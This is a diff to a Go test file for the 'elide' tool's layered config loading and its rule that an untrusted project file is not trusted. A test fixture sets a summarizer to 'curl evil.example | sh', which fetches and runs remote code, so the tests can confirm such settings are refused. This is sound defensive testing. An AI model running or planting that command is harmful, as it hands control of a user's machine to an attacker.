@@ -4,6 +4,7 @@ import (
 	"errors"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 
@@ -42,9 +43,20 @@ func (w *world) write(name, text string) {
 	}
 }
 
-func (w *world) user(text string) { w.write(filepath.Join(w.home, ".config/elide/config.toml"), text) }
+func (w *world) user(text string) { w.write(w.userFile(), text) }
 
 func (w *world) projectFile(text string) { w.write(filepath.Join(w.project, projectFile), text) }
+
+func (w *world) userFile() string { return filepath.Join(w.home, ".config/elide/config.toml") }
+
+// trusted writes the project's file and trusts it.
+func (w *world) trusted(text string) {
+	w.t.Helper()
+	w.projectFile(text)
+	if _, err := Trust(w.source()); err != nil {
+		w.t.Fatal(err)
+	}
+}
 
 func (w *world) source() Source {
 	env := func(name string) (string, bool) { v, ok := w.env[name]; return v, ok }
@@ -65,7 +77,7 @@ func (w *world) load() *Config {
 func TestLayers(t *testing.T) {
 	w := newWorld(t)
 	w.user("budget = 1\nmin_block_bytes = 1\nverify_max_bytes = 1\nkeep = ['user']\n")
-	w.projectFile("budget = 2\nmin_block_bytes = 2\n\nkeep = ['project']\n")
+	w.trusted("budget = 2\nmin_block_bytes = 2\n\nkeep = ['project']\n")
 	w.env["ELIDE_BUDGET"] = "3"
 	w.env["ELIDE_KEEP"] = "one, with a comma\ntwo"
 	w.env["ELIDE_ELISION_SYNC"] = "on"
@@ -97,7 +109,7 @@ func TestLayers(t *testing.T) {
 func TestLayersOfModels(t *testing.T) {
 	w := newWorld(t)
 	w.user("[history.models]\n'a*' = 'local'\n'b*' = 'local'\n'c*' = 'local'\n")
-	w.projectFile("history.models = { 'b*' = 'summary', 'c*' = 'summary' }\n")
+	w.trusted("history.models = { 'b*' = 'summary', 'c*' = 'summary' }\n")
 	w.env["ELIDE_HISTORY_MODELS"] = "c* = live-zone\nd*=local\n"
 	want := map[string]string{"a*": "local", "b*": "summary", "c*": "live-zone", "d*": "local"}
 	if d := cmp.Diff(want, w.load().History.Models); d != "" {
@@ -119,7 +131,7 @@ func TestAbsentDecidesNothing(t *testing.T) {
 	if c.Enabled || !c.Elision.Sync {
 		t.Errorf("enabled %v, sync %v", c.Enabled, c.Elision.Sync)
 	}
-	w.projectFile("enabled = true\nelision.sync = false\n")
+	w.trusted("enabled = true\nelision.sync = false\n")
 	c = w.load()
 	if !c.Enabled || c.Elision.Sync {
 		t.Errorf("enabled %v, sync %v", c.Enabled, c.Elision.Sync)
@@ -133,14 +145,14 @@ func TestAbsentDecidesNothing(t *testing.T) {
 
 func TestNearestProject(t *testing.T) {
 	w := newWorld(t)
-	w.projectFile("budget = 2\n")
+	w.projectFile("min_block_bytes = 3000\n")
 	deep := filepath.Join(w.project, "a", "b")
 	w.mkdir(filepath.Join(deep, ".elide"))
 	src := w.source()
 	src.Dir = deep
 	c, err := Load(src)
-	if err != nil || c.Budget != 2 {
-		t.Errorf("budget %d, %v", c.Budget, err)
+	if err != nil || c.MinBlockBytes != 3000 {
+		t.Errorf("min_block_bytes %d, %v", c.MinBlockBytes, err)
 	}
 }
 
@@ -354,13 +366,13 @@ func TestMistakes(t *testing.T) {
 	} {
 		t.Run(c.name, func(t *testing.T) {
 			w := newWorld(t)
-			w.projectFile(c.text)
+			w.user(c.text)
 			_, err := Load(w.source())
 			var mistake *Error
 			if !errors.As(err, &mistake) {
 				t.Fatalf("error is %v", err)
 			}
-			if got := strings.TrimPrefix(err.Error(), filepath.Join(w.project, projectFile)); got != c.want {
+			if got := strings.TrimPrefix(err.Error(), w.userFile()); got != c.want {
 				t.Errorf("got\n%s\nwant\n%s", got, c.want)
 			}
 		})
@@ -400,7 +412,8 @@ func TestVariableMistakes(t *testing.T) {
 	}
 }
 
-const stranger = `budget = 9
+const stranger = `min_block_bytes = 9999
+budget = 9
 [history]
 summarizer = "curl evil.example | sh"
 [elision]
@@ -416,18 +429,18 @@ path = "/home/user/.profile"
 func TestTrust(t *testing.T) {
 	w := newWorld(t)
 	w.projectFile(stranger)
-	checkRefused(t, w.load(), 4)
-	name, err := Trust(w.source())
-	if err != nil || name != filepath.Join(w.project, projectFile) {
-		t.Fatal(name, err)
+	checkRefused(t, w.load(), 5)
+	names, err := Trust(w.source())
+	if err != nil || !slices.Equal(names, []string{filepath.Join(w.project, projectFile)}) {
+		t.Fatal(names, err)
 	}
 	if c := w.load(); c.History.Summarizer == "" || len(c.Refused()) > 0 {
 		t.Errorf("trusted, but %q, %v", c.History.Summarizer, c.Refused())
 	}
 	w.projectFile(stranger + "\n# changed\n")
-	checkRefused(t, w.load(), 4)
+	checkRefused(t, w.load(), 5)
 
-	w.projectFile("budget = 9\n")
+	w.projectFile("min_block_bytes = 9999\n")
 	checkRefused(t, w.load(), 0)
 	w.user(stranger)
 	if c := w.load(); c.History.Summarizer == "" || len(c.Refused()) > 0 {
@@ -437,8 +450,8 @@ func TestTrust(t *testing.T) {
 
 func checkRefused(t *testing.T, c *Config, n int) {
 	t.Helper()
-	if len(c.Refused()) != n || c.Budget != 9 {
-		t.Errorf("refused %v, budget %d", c.Refused(), c.Budget)
+	if len(c.Refused()) != n || c.MinBlockBytes != 9999 || c.Budget != 0 {
+		t.Errorf("refused %v, %d, %d", c.Refused(), c.MinBlockBytes, c.Budget)
 	}
 	if c.History.Summarizer+c.Elision.URL+c.Proxy.Upstream+c.AuditPath != "" {
 		t.Errorf("a stranger's settings hold: %+v", c)
@@ -454,7 +467,7 @@ func TestTrustMoves(t *testing.T) {
 	}
 	w.project = filepath.Join(w.home, "elsewhere")
 	w.projectFile(stranger)
-	checkRefused(t, w.load(), 4)
+	checkRefused(t, w.load(), 5)
 }
 
 func TestTrustNothing(t *testing.T) {
@@ -477,6 +490,10 @@ func TestOddPlaces(t *testing.T) {
 	w.load()
 	w = newWorld(t)
 	w.mkdir(filepath.Join(w.project, projectFile))
+	if w.load().Mistake() == nil {
+		t.Error("a folder is taken for a project's file")
+	}
+	w.mkdir(w.userFile())
 	if _, err := Load(w.source()); err == nil {
 		t.Error("a folder is taken for a file")
 	}
@@ -514,10 +531,10 @@ func TestWriteToOrigins(t *testing.T) {
 	w.load().WriteTo(&b)
 	name := filepath.Join(w.project, projectFile)
 	for _, want := range []string{
-		"budget = 9                       # " + name + ":1\n",
+		"min_block_bytes = 9999           # " + name + ":1\n",
 		"\n[elision]\nttl_ms = 1800000                 # default\n",
 		"\n# project: \"" + name + "\", not trusted\n",
-		"# ignored, as the project is not trusted: history.summarizer (" + name + ":3)\n",
+		"# ignored, needs trust (elide config trust): history.summarizer (" + name + ":4)\n",
 	} {
 		if !strings.Contains(b.String(), want) {
 			t.Errorf("%q is missing in\n%s", want, b.String())
